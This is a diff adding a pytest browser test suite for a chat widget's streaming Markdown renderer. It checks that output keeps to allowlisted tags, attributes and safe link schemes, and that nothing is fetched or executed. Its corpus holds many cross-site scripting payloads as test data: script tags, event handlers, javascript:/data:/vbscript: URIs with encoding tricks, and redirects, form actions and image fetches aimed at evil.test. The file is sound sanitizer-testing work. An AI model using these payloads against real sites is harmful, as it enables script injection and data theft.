@@ -1,0 +1,287 @@
+"""Markdown in a real browser: that it reads well, and that hostile text does nothing."""
+
+from __future__ import annotations
+
+import json
+import re
+from typing import Any
+
+import pytest
+
+from tests.browser.conftest import ReplyPage
+
+pytestmark = pytest.mark.browser
+
+HTML = {
+    "script": "Before <script>window.pwned = 1</script> after\n\n<script src=//evil.test/a.js>\n",
+    "event handlers": (
+        "<img src=x onerror=window.pwned=1> <b onmouseover='pwned=2'>bold</b>\n"
+        "<details open ontoggle=pwned=3><body onload=pwned=4>\n"
+    ),
+    "svg": "<svg onload=pwned=1><script>pwned=2</script></svg>\n\n<svg/onload=alert(1)>",
+    "iframe": "<iframe src='javascript:parent.pwned=1'></iframe><iframe srcdoc='<script>'>x",
+    "embedding": "<object data=evil.swf></object><embed src=a.swf><link rel=stylesheet href=b.css>",
+    "style": "<style>@import 'https://evil.test/a.css';</style><base href=https://evil.test/>",
+    "form": "<form action=https://evil.test/><input autofocus onfocus=pwned=1><button>go</button>",
+    "meta": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
+    "comment": "<!-- secret --> <![CDATA[ section ]]> <?php echo ?>",
+    "inside code": "`<script>pwned=1</script>`\n\n```html\n<img src=x onerror=pwned=1>\n```\n",
+    "inside a table": "| <script>a</script> | <img src=x onerror=pwned=1> |\n|---|---|\n| x | y |\n",
+    "inside a fence's name": '```"><script>pwned=1</script>\ncode\n```\n\n```js onload=x\n1\n```\n',
+}
+LINKS = {
+    "javascript": "[click](javascript:alert(1)) and [two](JaVaScRiPt:alert`2`)",
+    "data": "[click](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHN2Zz4=)",
+    "vbscript": "[click](vbscript:msgbox(1)) [b](VBScript:msgbox)",
+    "entities": "[a](javascript&#58;alert(1)) [b](&#106;avascript:alert(2)) [c](javascript&colon;x)",
+    "percent": "[a](javascript%3Aalert(1)) [b](%6aavascript:alert(2))",
+    "tab": "[a](java\tscript:alert(1)) [b](\tjavascript:alert(2)) [c](jav&#x09;ascript:alert(3))",
+    "newline": "[a](java\nscript:alert(1))\n\n[b](\njavascript:alert(2))",
+    "control": "[a](\x01javascript:alert(1)) [b](java\x00script:alert(2)) [c](\x1fdata:x)",
+    "other schemes": "[a](file:///etc/passwd) [b](blob:abc) [c](filesystem:x) [d](ftp://h/x)",
+    "angle brackets": "[a](<javascript:alert(1)>) <javascript:alert(2)> [b](< javascript:alert(3)>)",
+    "titles": '[a](javascript:alert(1) "title") [b](https://ok.test/ "on=\'x\' onclick=pwned=1")',
+    "quotes": "[a](https://ok.test/\"onmouseover=\"pwned=1) [b](https://ok.test/'onclick='pwned=2)",
+    "nested": "[a [b](javascript:alert(1)) c](javascript:alert(2)) [![i](javascript:x)](vbscript:y)",
+    "reference": "[a][ref] [ref]\n\n[ref]: javascript:alert(1)\n[other]: data:text/html,x\n",
+    "bare": 'https://ok.test/<script>alert(1)</script> https://ok.test/"onclick=pwned=1 http://',
+    "no end": "[a](javascript:alert(1)\n\nmore text [b](https://ok.test",
+}
+IMAGES = {
+    "inline": "![alt words](https://evil.test/a.png?secret=1) ![](//evil.test/b.png)",
+    "reference": "![alt][pic] ![pic]\n\n[pic]: https://evil.test/c.png\n",
+    "data": "![a](data:image/svg+xml,<svg onload=pwned=1>) ![b](javascript:pwned=1)",
+    "in a link": "[![badge](https://evil.test/badge.svg)](https://ok.test/page)",
+    "no end": "![never closed](https://evil.test/d.png",
+}
+UNFINISHED = {
+    "fence": "text\n\n```python\nprint('<b>')\n",
+    "fence alone": "```\nalpha\n``\nbeta",
+    "tildes": "~~~js\nalpha\n~~~\nbeta ~~gamma",
+    "inline": "an `open code and **open bold and _open emphasis\n\nnext *para",
+    "formula": "alpha $$beta\n\ngamma \\[delta\n\nepsilon \\(zeta\n\neta $theta iota\n\nkappa",
+    "brackets": "alpha [beta\n\n![gamma\n\n[delta]( epsilon\n\nzeta ](eta",
+    "table": "| alpha | beta\n| - | -\n| gamma\ndelta\n\n| epsilon *zeta | eta |\n",
+    "surrogates": "smile \U0001f600 flag \U0001f1e9\U0001f1ea family \U0001f468\u200d\U0001f469 end",
+    "lone surrogates": "alpha \ud83d beta \ude00 gamma \ud83d",
+    "deep": ">" * 300 + " alpha\n\n" + "*_" * 300 + "beta\n\n" + "- " * 60 + "gamma\n",
+    "deep lists": "".join(f"{'  ' * depth}- item{depth}\n" for depth in range(60)),
+    "long line": "alpha " + "x" * 20_000 + " omega",
+    "control": "alpha \x00 beta \x1b[31m gamma \u202e delta \ufeff epsilon \uffff zeta",
+}
+PLAIN = {
+    "names": "Use snake_case_name, __init__ and a_b_ or x_1, but *this* is _emphasis_.\n",
+    "sums": "2 * 3 * 4 = 24, 2*3, a < b, x[0][1], [1, 2, 3], f(x)[i](y)\n",
+    "money": "It costs $5 or $10, ~3 and ~~4~~, C:\\path\\name, 50% & more; #1 and # 2.\n",
+    "formulas": "$$E = mc^2$$\n\nInline $a_1 + b_1$ and \\(x_2\\).\n\n\\[ \\frac{a}{b} \\]\n\nEnd.\n",
+    "lists": "1. one\n2. two\n   - inner\n   - more\n3. three\n\n- [x] done\n- [ ] open\n",
+    "numbers": "2.1. Overview\n2.2. Details\n\n1986. A year\n\n10) paren\n",
+    "table": "| Name | Value |\n|:-----|------:|\n| alpha | **1** |\n| beta | `2` |\n\nAfter.\n",
+    "code": "Indented:\n\n    x = 1\n    y = 2\n\n```\nplain\n\n  more\n```\nThen ``a ` b`` done.\n",
+    "quotes": "> one\n> two\n>\n> > three\n\nafter\n\n---\n\n***\n",
+    "links": "See https://ok.test/a_(b)?c=d_e. And (https://ok.test/x), [w](https://ok.test/q_(r)_s).\n",
+}
+GROUPS = {
+    "html": HTML, "links": LINKS, "images": IMAGES, "unfinished": UNFINISHED, "plain": PLAIN,
+}  # fmt: skip
+CORPUS = [
+    pytest.param(source, id=f"{group}-{name}")
+    for group, sources in GROUPS.items()
+    for name, source in sources.items()
+]
+
+STREAM = """
+    const source = JSON.parse(given.source);
+    const random = (() => {
+        let state = given.seed;
+        return () => ((state = (state * 48271) % 2147483647) / 2147483647);
+    })();
+    await openWidget();
+    for (let at = 0; at < source.length; ) {
+        const size = given.how === "whole" ? source.length
+            : given.how === "characters" ? 1 : 1 + Math.floor(random() * 7);
+        model.say(source.slice(at, at + size));
+        at += size;
+    }
+    model.receive("phase", "done");
+    const root = view.text;
+    root.normalize();
+    const all = [...root.querySelectorAll("*")];
+    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
+    const texts = [root.textContent];
+    while (walker.nextNode()) texts.push(walker.currentNode.data);
+    return {
+        html: root.innerHTML,
+        tags: [...new Set(all.map((node) => node.tagName.toLowerCase()))],
+        attributes: [...new Set(all.flatMap((node) => node.getAttributeNames()))],
+        hrefs: [...root.querySelectorAll("[href]")].map((node) => node.getAttribute("href")),
+        opened: [...root.querySelectorAll("a[href]")].map((node) => node.protocol),
+        shown: texts.join(" ") + " " + all.flatMap(
+            (node) => ["href", "title"].map((name) => node.getAttribute(name) ?? "")).join(" "),
+        markers: [...root.querySelectorAll("ol")].flatMap(
+            (list) => [...list.children].map((_, index) => list.start + index)),
+        pwned: window.pwned,
+    };
+"""
+TAGS = set(
+    [
+        "p",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "pre",
+        "code",
+        "em",
+        "strong",
+        "del",
+        "a",
+        "span",
+        "br",
+        "hr",
+        "ul",
+        "ol",
+        "li",
+        "input",
+        "blockquote",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+    ]
+)
+ATTRIBUTES = set(
+    ["class", "href", "target", "rel", "title", "start", "type", "disabled", "checked"]
+)
+FENCE_NAMES = {"python", "html", "js"}
+
+
+def stream(page: ReplyPage, source: str, how: str = "whole", seed: int = 1) -> dict[str, Any]:
+    """Stream the source in pieces and say what came of it. Lone surrogates travel as JSON."""
+    return page.run(STREAM, {"source": json.dumps(source), "how": how, "seed": seed})
+
+
+def words(text: str) -> set[str]:
+    return set(re.findall(r"[A-Za-z0-9]+", text))
+
+
+@pytest.mark.parametrize("source", CORPUS)
+def test_hostile_text_does_nothing(reply_page: ReplyPage, source: str) -> None:
+    """However it is cut, a text makes only harmless elements, asks for nothing, loses nothing."""
+    whole = stream(reply_page, source)
+    cuts = [stream(reply_page, source, "characters")]
+    cuts += [stream(reply_page, source, "random", seed) for seed in (7, 77, 777)]
+    assert set(whole["tags"]) <= TAGS
+    assert set(whole["attributes"]) <= ATTRIBUTES
+    # On a blank page a relative address has no protocol.
+    assert set(whole["opened"]) <= {"http:", "https:", "mailto:", ":"}
+    assert not [href for href in whole["hrefs"] if re.match(r"[^/?#]*:", href) and not re.match(
+        r"(https?|mailto):", href)]  # fmt: skip
+    assert whole["pwned"] is None
+    shown = words(whole["shown"]) | {str(marker) for marker in whole["markers"]}
+    # The name after a fence chooses the colours; the x of "[x]" ticks its box.
+    assert words(source) - shown - FENCE_NAMES - {"x"} == set()
+    assert [cut["html"] for cut in cuts] == [whole["html"]] * len(cuts)
+    # Anything the page were to fetch or run would by now be under way.
+    reply_page.page.wait_for_function("new Promise((done) => setTimeout(() => done(true), 0))")
+    assert reply_page.requests == []
+    assert reply_page.dialogs == []
+
+
+@pytest.mark.parametrize("name", LINKS)
+def test_links_open_only_what_is_safe(reply_page: ReplyPage, name: str) -> None:
+    """No link of the corpus leads anywhere but to the one harmless host."""
+    hrefs = stream(reply_page, LINKS[name])["hrefs"]
+    assert [href for href in hrefs if not href.startswith("https://ok.test")] == []
+
+
+@pytest.mark.parametrize(
+    ("source", "href"),
+    [
+        ("[a](https://ok.test/x)", "https://ok.test/x"),
+        ("[a](HTTP://ok.test)", "HTTP://ok.test"),
+        ("[a](mailto:me@ok.test)", "mailto:me@ok.test"),
+        ("[a](#part)", "#part"),
+        ("[a](docs/page.md?x=1:2)", "docs/page.md?x=1:2"),
+        ("[a](/root:x)", "/root:x"),
+        ('[a](https://ok.test/ "A title")', "https://ok.test/"),
+        ("[a](https://ok.test/w_(x)_y)", "https://ok.test/w_(x)_y"),
+        ("see https://ok.test/a_b.", "https://ok.test/a_b"),
+        ("(see https://ok.test/a)", "https://ok.test/a"),
+    ],
+)
+def test_good_links_work(reply_page: ReplyPage, source: str, href: str) -> None:
+    """A link that is safe can be followed, in a tab of its own that knows nothing of this one."""
+    assert stream(reply_page, source)["hrefs"] == [href]
+    link = reply_page.page.locator(".chatnb-text a[href]").last
+    assert link.get_attribute("target") == "_blank"
+    assert link.get_attribute("rel") == "noopener noreferrer"
+
+
+@pytest.mark.parametrize(
+    ("source", "html"),
+    [
+        ("snake_case_name", "<p>snake_case_name</p>"),
+        ("a _b_ c", "<p>a <em>b</em> c</p>"),
+        ("_a_b_", "<p><em>a_b</em></p>"),
+        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>"),
+        ("x[0] and [1, 2]", None),
+        ("5 *stars", None),
+        ("[a](javascript:b)", "<p><a>a (javascript:b)</a></p>"),
+        ("# One\n\nTwo", "<h1>One</h1><p>Two</p>"),
+        ("3. c\n4. d", '<ol start="3"><li>c</li><li>d</li></ol>'),
+        ("> q", "<blockquote><p>q</p></blockquote>"),
+        ("```\na\n```", "<pre><code>a</code></pre>"),
+        (
+            "| a |\n|---|\n| b |\n",
+            "<table><thead><tr><th> a </th></tr></thead><tbody><tr><td> b </td></tr></tbody></table>",
+        ),
+    ],
+)
+def test_markdown_becomes_elements(reply_page: ReplyPage, source: str, html: str | None) -> None:
+    """Markdown that replies use becomes the elements that it means; what is none stays text."""
+    assert not html or stream(reply_page, source)["html"] == html
+    if html is None:
+        stream(reply_page, source)
+        assert reply_page.text() == source
+
+
+@pytest.mark.parametrize(
+    "formula", ["$a_1 b_2$", "$$a_1\\\\b$$", "\\(a*b*c\\)", "\\[\\frac{a}{b}\\]"]
+)
+def test_formulas_keep_their_source(reply_page: ReplyPage, formula: str) -> None:
+    """A formula is shown as it was written, delimiters and all, and ends where it ends."""
+    stream(reply_page, f"Before {formula} after\n\nNext")
+    assert (
+        reply_page.run("return view.text.querySelector('.chatnb-formula').textContent") == formula
+    )
+    assert reply_page.run("return view.text.lastChild.outerHTML") == "<p>Next</p>"
+
+
+def test_images_are_links(reply_page: ReplyPage) -> None:
+    """An image is its alternative text and a link, and nothing is fetched."""
+    html = stream(reply_page, "![A cat](https://evil.test/cat.png)")["html"]
+    assert html == (
+        '<p><a class="chatnb-image" href="https://evil.test/cat.png" target="_blank" '
+        'rel="noopener noreferrer">A cat (image)</a></p>'
+    )
+
+
+def test_line_of_any_length_is_taken_in_time(reply_page: ReplyPage) -> None:
+    """A hundred thousand characters of the worst kinds take seconds, not minutes."""
+    for worst in (">", "`", "*", "_a", "[", "$$", "[a](", "- ", "http://a"):
+        milliseconds = reply_page.run(
+            """
+            await openWidget();
+            const start = performance.now();
+            model.say(given.repeat(Math.ceil(50000 / given.length)));
+            model.receive("phase", "done");
+            return performance.now() - start;
+            """,
+            worst,
+        )
+        assert milliseconds < 5000, worst
